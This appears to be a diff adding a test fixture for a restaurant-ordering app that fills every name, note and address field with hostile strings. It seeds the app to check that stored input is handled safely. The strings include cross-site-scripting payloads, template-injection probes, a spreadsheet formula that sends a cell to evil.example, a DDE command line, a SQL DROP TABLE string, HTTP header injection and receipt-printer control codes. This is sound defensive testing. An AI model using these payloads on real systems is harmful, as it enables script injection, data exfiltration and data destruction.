@@ -1,0 +1,322 @@
+/** A restaurant whose every text is what a careless program would run, print or fall over, written by the calls that people use. */
+import { randomUUID } from 'node:crypto'
+import { calls } from '@orderi/shared/contract/all'
+import { ask, type House, type Person } from './house.ts'
+import { makeUser } from './tenant.ts'
+import type { Speaker, World } from './world.ts'
+
+/** Set in a page by whatever of the texts was run. */
+export const RAN = 'ran'
+
+const SCRIPTS = [
+  `<script>window.${RAN}=1</script>`,
+  `"><img src=x onerror=window.${RAN}=1>`,
+  `'"><svg/onload=window.${RAN}=1>`,
+  `</title></textarea></style></script><script>window.${RAN}=1</script>`,
+  `javascript:window.${RAN}=1//`,
+  `<a href="javascript:window.${RAN}=1">Ver</a>`,
+  `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
+  `<img src="//evil.example/a.png"><link rel=stylesheet href=//evil.example/a.css>`,
+  `<style>*{display:none}</style><base href="//evil.example/">`,
+  `data:text/html,<script>window.${RAN}=1</script>`,
+  `%3Cscript%3Ewindow.${RAN}=1%3C/script%3E &lt;script&gt; &#x3c;script&#x3e;`,
+  `\${window.${RAN}=1}{{constructor.constructor('window.${RAN}=1')()}}<%= 7*7 %>#{7*7}`,
+]
+
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
+  '+506 2222-4455',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd',
+  '\u200b=1+1',
+]
+
+const WORDS = [
+  '__proto__',
+  'constructor',
+  'toString',
+  "'; DROP TABLE users; --",
+  '100 % _ \\ "fin"',
+]
+
+const LINES = [
+  'Uno\r\nSet-Cookie: robado=1\r\n\r\n{"level":60}',
+  'Dos\u2028tres\u2029cuatro\u0085cinco',
+  // What opens a drawer, cuts, starts a printer anew and asks it for its state.
+  'Caja\u001bp0\u0001 corte\u001dVA\u0003 nuevo\u001b@ estado\u0010\u0004\u0001',
+]
+
+const LETTERS = [
+  `Supercalifragilisticoespialidoso${'largo'.repeat(40)}`,
+  `\u202eodnauqse led otalp\u202d\u2066`,
+  `Ca\u200bfé\u200d con\ufeff \u2060leche`,
+  'Z̸̡̛̝͎̈́a̷̢͔̓́l̴̰͊g̵̨̋̈́o̶͖͑'.repeat(4),
+  '👩‍👩‍👧‍👦🏴‍☠️🇨🇷'.repeat(6),
+  'مطعم السلام 寿司 ไทย',
+]
+
+/** Every one may stand in a name, and is read back as it was written. */
+export const HOSTILE: readonly string[] = [...SCRIPTS, ...FORMULAS, ...WORDS, ...LINES, ...LETTERS]
+
+export interface HostileHouse extends Pick<House, 'restaurant' | 'branch' | 'admin' | 'waiter'> {
+  readonly superadmin: Person
+  readonly hallId: number
+  readonly categoryId: number
+  readonly productIds: readonly number[]
+  readonly tableIds: readonly number[]
+  /** Where the tables' codes lead. */
+  readonly codes: readonly string[]
+  readonly guest: Speaker
+  readonly billId: number
+  /** What stands in which field of which call. */
+  readonly written: ReadonlyMap<string, string>
+  readonly email: string
+}
+
+/** Of the account of `email`. */
+export const HOSTILE_PASSWORD = 'una clave larga'
+
+/** Opens such a restaurant. `from`: which of the texts is the first; the fields take them one after the other. */
+export async function openHostileHouse(world: World, from = 0): Promise<HostileHouse> {
+  const written = new Map<string, string>()
+  let at = from
+  const text = (field: string): string => {
+    const value = HOSTILE[at % HOSTILE.length] ?? ''
+    at += 1
+    written.set(field, value)
+    return value
+  }
+  const some = <Name extends string>(call: string, ...names: readonly Name[]) =>
+    Object.fromEntries(names.map((name) => [name, text(`${call}.${name}`)])) as Record<Name, string>
+  /** The names of a thing in all languages. */
+  const named = (call: string) => ({
+    ...some(call, 'name', 'description', 'address'),
+    translations: (['en', 'pt', 'fr'] as const).map((language_code) => ({
+      language_code,
+      name: text(`${call}.translations[].name`),
+      description: text(`${call}.translations[].description`),
+      address: text(`${call}.translations[].address`),
+    })),
+  })
+
+  const { speaker: founder, ...boss } = await makeUser(world, { superadmin: true })
+  const currency = '<b>₡'
+  written.set('createRestaurant.currency', currency)
+  written.set('updateRestaurant.currency', currency)
+  written.set('updateOwnRestaurant.currency', currency)
+  const restaurant = await ask(founder, calls.createRestaurant, {
+    ...named('createRestaurant'),
+    ...some('createRestaurant', 'contact', 'phone'),
+    currency,
+    country: 'crc',
+    commissionType: 2,
+    status: 1,
+  })
+  const restaurantId = restaurant.id
+  await ask(founder, calls.updateRestaurant, {
+    id: restaurantId,
+    ...named('updateRestaurant'),
+    ...some('updateRestaurant', 'contact', 'phone'),
+    currency,
+  })
+  const people = await ask(founder, calls.createUser, {
+    ...some('createUser', 'name'),
+    email: `${randomUUID()}@pruebas.test`,
+    type: 'superadmin',
+  })
+  await ask(founder, calls.updateUser, { id: people.id, ...some('updateUser', 'name') })
+  await ask(founder, calls.startRestaurant, { restaurant: restaurantId })
+  const made = await ask(founder, calls.createBranch, {
+    ...named('createBranch'),
+    ...some('createBranch', 'phone'),
+    status: 1,
+  })
+  const branch = await ask(founder, calls.updateBranch, {
+    id: made.id,
+    ...named('updateBranch'),
+    ...some('updateBranch', 'phone'),
+  })
+
+  async function employ(type: 'admin' | 'salonero'): Promise<Person> {
+    const { id, email, speaker } = await makeUser(world, {
+      name: text('users.name'),
+      restaurantId,
+      type,
+      branchIds: type === 'admin' ? [] : [branch.id],
+    })
+    return { user: { id, name: written.get('users.name') ?? '', email, type }, role: type, speaker }
+  }
+  const admin = await employ('admin')
+  const waiter = await employ('salonero')
+  await ask(admin.speaker, calls.updateOwnRestaurant, {
+    ...named('updateOwnRestaurant'),
+    ...some('updateOwnRestaurant', 'contact', 'phone'),
+    currency,
+  })
+  const employee = await ask(admin.speaker, calls.createEmployee, {
+    ...some('createEmployee', 'name'),
+    email: `${randomUUID()}@pruebas.test`,
+    type: 'salonero',
+  })
+  await ask(admin.speaker, calls.updateEmployee, {
+    user: employee.user_id,
+    type: 'salonero',
+    ...some('updateEmployee', 'name'),
+  })
+
+  const hall = await ask(admin.speaker, calls.createHall, {
+    branch_id: branch.id,
+    status: 1,
+    ...some('createHall', 'name'),
+  })
+  await ask(admin.speaker, calls.updateHall, { id: hall.id, ...some('updateHall', 'name') })
+  const tables = []
+  for (let number = 0; number < 4; number += 1) {
+    const table = await ask(admin.speaker, calls.createTable, {
+      hall_id: hall.id,
+      capacity: 4,
+      ...some('createTable', 'name'),
+    })
+    tables.push(
+      await ask(admin.speaker, calls.updateTable, { id: table.id, ...some('updateTable', 'name') }),
+    )
+  }
+  const codes = tables.map(({ qr_url }) => new URL(qr_url).pathname.split('/').at(-1) ?? '')
+
+  const block = { order: 1, hidden: 0 }
+  const category = await ask(admin.speaker, calls.createCategory, {
+    ...block,
+    ...named('createCategory'),
+  })
+  await ask(admin.speaker, calls.updateCategory, { id: category.id, ...named('updateCategory') })
+  const subcategory = await ask(admin.speaker, calls.createSubcategory, {
+    category_id: category.id,
+    ...block,
+    ...named('createSubcategory'),
+  })
+  await ask(admin.speaker, calls.updateSubcategory, {
+    id: subcategory.id,
+    ...named('updateSubcategory'),
+  })
+  const productIds: number[] = []
+  for (let number = 0; number < 6; number += 1) {
+    const product = await ask(admin.speaker, calls.createProduct, {
+      category_id: category.id,
+      subcategory_id: subcategory.id,
+      precio: 1000 + number,
+      order: number,
+      status: 1,
+      ...named('createProduct'),
+    })
+    await ask(admin.speaker, calls.updateProduct, { id: product.id, ...named('updateProduct') })
+    productIds.push(product.id)
+  }
+  const [dish = 0, side = 0] = productIds
+  const variantNames = (call: string) => ({
+    ...some(call, 'name'),
+    translations: [{ language_code: 'en' as const, name: text(`${call}.translations[].name`) }],
+  })
+  const { id: variantId } = await ask(admin.speaker, calls.createVariant, {
+    product_id: dish,
+    quantity: 2,
+    required: 0,
+    ...variantNames('createVariant'),
+  })
+  await ask(admin.speaker, calls.updateVariant, { id: variantId, ...variantNames('updateVariant') })
+  const { options } = await ask(admin.speaker, calls.saveOptions, {
+    product_variant_id: variantId,
+    options: [{ id: side, additional_price: 100 }],
+  })
+  await ask(admin.speaker, calls.importProducts, {
+    simular: false,
+    filas: [
+      {
+        precio: '1500',
+        ...some(
+          'importProducts.filas[]',
+          ...([
+            'nombre',
+            'detalle',
+            'categoria',
+            'subcategoria',
+            'nombre_en',
+            'detalle_en',
+          ] as const),
+          ...(['nombre_pt', 'detalle_pt', 'nombre_fr', 'detalle_fr'] as const),
+        ),
+      },
+    ],
+  })
+
+  const [mesa = '', second = ''] = codes
+  const enter = async (code: string) => {
+    const { token } = await ask(world.speaker(), calls.enterTable, {
+      mesa: code,
+      ...some('enterTable', 'name'),
+    })
+    return world.speaker(token)
+  }
+  const dishes = (call: string) => [
+    {
+      product_id: dish,
+      quantity: 2,
+      note: text(`${call}.products[].note`),
+      variants: [{ variant_id: variantId, options: [{ option_id: options[0]?.id ?? 0 }] }],
+    },
+    ...productIds.slice(1).map((product_id) => ({
+      product_id,
+      quantity: 1,
+      note: text(`${call}.products[].note`),
+    })),
+  ]
+  const guest = await enter(mesa)
+  const { bill } = await ask(guest, calls.placeOrder, {
+    mesa,
+    products: dishes('placeOrder'),
+    ...some('placeOrder', 'bill_name'),
+  })
+  await ask(guest, calls.callWaiter, { mesa })
+  const neighbour = await enter(mesa)
+  await ask(neighbour, calls.askToJoin, { mesa, bill_id: bill.id, ...some('askToJoin', 'name') })
+  const taken = await ask(waiter.speaker, calls.takeOrder, {
+    table_id: tables[1]?.id,
+    products: dishes('takeOrder'),
+    ...some('takeOrder', 'bill_name'),
+  })
+  await ask(waiter.speaker, calls.changeOrderStatus, {
+    order_id: taken.order.id,
+    estado: 'Preparando',
+  })
+  await ask(await enter(second), calls.callWaiter, { mesa: second })
+
+  const email = `${randomUUID()}@pruebas.test`
+  const account = await ask(world.speaker(), calls.register, {
+    email,
+    password: HOSTILE_PASSWORD,
+    ...some('register', 'name'),
+  })
+  await ask(world.speaker(account.token), calls.updateProfile, {
+    email,
+    ...some('updateProfile', 'name'),
+  })
+  return {
+    restaurant: { id: restaurantId, name: written.get('updateOwnRestaurant.name') ?? '' },
+    branch: { id: branch.id, name: written.get('updateBranch.name') ?? '' },
+    admin,
+    waiter,
+    superadmin: {
+      user: { id: boss.id, name: 'Superadmin', email: boss.email, type: 'superadmin' },
+      role: 'superadmin',
+      speaker: founder,
+    },
+    hallId: hall.id,
+    categoryId: category.id,
+    productIds,
+    tableIds: tables.map(({ id }) => id),
+    codes,
+    guest,
+    billId: bill.id,
+    written,
+    email,
+  }
+}
